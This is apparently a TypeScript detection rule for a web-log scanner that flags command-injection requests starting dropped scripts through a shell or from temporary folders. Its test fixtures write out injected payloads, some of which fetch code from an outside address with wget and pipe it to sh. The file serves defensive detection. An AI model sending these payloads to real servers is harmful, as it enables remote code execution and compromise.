import { each } from '../example.ts'
import { defineRule } from '../rule.ts'
import { fewest } from '../words.ts'

export default defineRule({
  id: 'cmdi/run-file',
  title: 'A dropped file is started',
  why: 'Runs a script or program by a shell, from the current folder or a temporary one: the last step of a dropper.',
  ja: {
    title: '置いたファイルの実行',
    why: 'シェル経由、またはカレントや一時フォルダーから、スクリプトやプログラムを起動しています。ドロッパーの最後の手順です。',
  },
  severity: 'critical',
  stage: 'execute',
  attack: ['T1059.004'],
  cwe: [78],
  refs: [
    'https://attack.mitre.org/techniques/T1059/004/',
    'https://owasp.org/www-community/attacks/Command_Injection',
  ],

  where: ['path', 'query', 'referrer', 'agent', 'user'],
  needs: [
    fewest([
      ...[';', '; ', '&& ', '&&', '| ', '|', '& '].flatMap((mark) => [
        `${mark}sh `,
        `${mark}sh+`,
        `${mark}bash`,
        `${mark}ash `,
        `${mark}dash `,
        `${mark}perl `,
        `${mark}python`,
        `${mark}./`,
        `${mark}/tmp/`,
        `${mark}/var/tmp/`,
        `${mark}/dev/shm/`,
        `${mark}/bin/sh`,
        `${mark}/bin/bash`,
        `${mark}busybox sh`,
      ]),
      '|sh',
      '| sh',
    ]),
  ],
  match:
    /(?:[;|]|&&|&\s)\s?(?:(?:\/bin\/|busybox\s)?(?:ba|da|[azk])?sh[\s+]+(?:-\w+\s+)?[\w./-]*[\w*]|(?:perl|python\d?)\s+[\w./-]{0,80}\w\.(?:pl|py)\b|\.\/[\w.-]+|\/(?:tmp|var\/tmp|dev\/shm)\/[\w./-]+)|\|\s?(?:\/bin\/)?(?:ba|da|a)?sh(?:$|[\s"'&);`|])/i,

  hits: [
    'GET /cgi-bin/a.cgi?x=;sh+/tmp/x.sh HTTP/1.1',
    'GET /a?c=$(wget${IFS}-qO-${IFS}http://203.0.113.9/i|sh) HTTP/1.1',
    'GET /cgi-bin/a.cgi?x=1;cd+/tmp;./arm7+exploit HTTP/1.1',
    'GET /ping?h=;sh${IFS}get.sh HTTP/1.1',
    'GET /cgi-bin/a.cgi?x=&&sh+/tmp/x.sh HTTP/1.1',
    'GET /cgi-bin/a.cgi?x=&+sh+/tmp/x.sh HTTP/1.1',
    'GET /cgi-bin/a.cgi?x=;perl+a.pl HTTP/1.1',
    'GET /cgi-bin/a.cgi?x=;python+a.pl HTTP/1.1',
    'GET /cgi-bin/a.cgi?x=;perl+a.py HTTP/1.1',
    'GET /a?c=$(wget${IFS}-qO-${IFS}http://203.0.113.9/i|sh HTTP/1.1',
    'GET /;sh+/tmp/x.sh HTTP/1.1',
    {
      request: 'GET / HTTP/1.1',
      referrer: 'https://www.example.com/cgi-bin/a.cgi?x=;sh+/tmp/x.sh',
    },
    { request: 'GET / HTTP/1.1', agent: ';sh+/tmp/x.sh' },
    { request: 'GET / HTTP/1.1', user: ';sh+/tmp/x.sh' },
    ...each(
      'GET /cgi-bin/a.cgi?x={}+a.pl HTTP/1.1',
      `;bash ;/bin/sh ;/bin/bash ;busybox+sh ;+bash ;+busybox+sh &&bash &&busybox+sh |+busybox+sh
    |busybox+sh &+bash &+busybox+sh`,
    ),
    ...each(
      'GET /cgi-bin/a.cgi?x={}/tmp/x.sh HTTP/1.1',
      `;ash+ ;dash+ ;/tmp/ ;+./ &&./ |+./ |./ &+./ ;+sh+ %3B%20sh%2B &&sh%20 %26%26sh%2B |+ash+ |ash+
    %26%20sh%2B`,
    ),
    'GET /a?c=$(wget${IFS}-qO-${IFS}http://203.0.113.9/i|+bash) HTTP/1.1',
    ...each(
      'GET /a.cgi?x=1{} HTTP/1.1',
      `;+/tmp/a ;+/bin/sh+a |+/tmp/a |+/bin/sh+a |/tmp/a |/bin/sh+a &+/tmp/a &+/bin/sh+a &&/tmp/a
    &&/bin/sh+a &&./a &&bash+a ;/var/tmp/a ;/dev/shm/a ;bash+a ;/bin/sh+a ;busybox+sh+a`,
    ),
  ],
  misses: [
    'GET /find?q=fish;shop=1 HTTP/1.1',
    'GET /a/b;sh=1 HTTP/1.1',
    'GET /list?cols=name|shape|size HTTP/1.1',
    { request: 'GET / HTTP/1.1', agent: 'Mozilla/5.0 (compatible; ShopBot/1.0; Bash)' },
    { message: 'upstream timed out, request: "GET /cgi-bin/a.cgi?x=;sh+/tmp/x.sh HTTP/1.1"' },
    'GET /cgi-bin/a.cgi?x=;perl+a.pls HTTP/1.1',
  ],
})
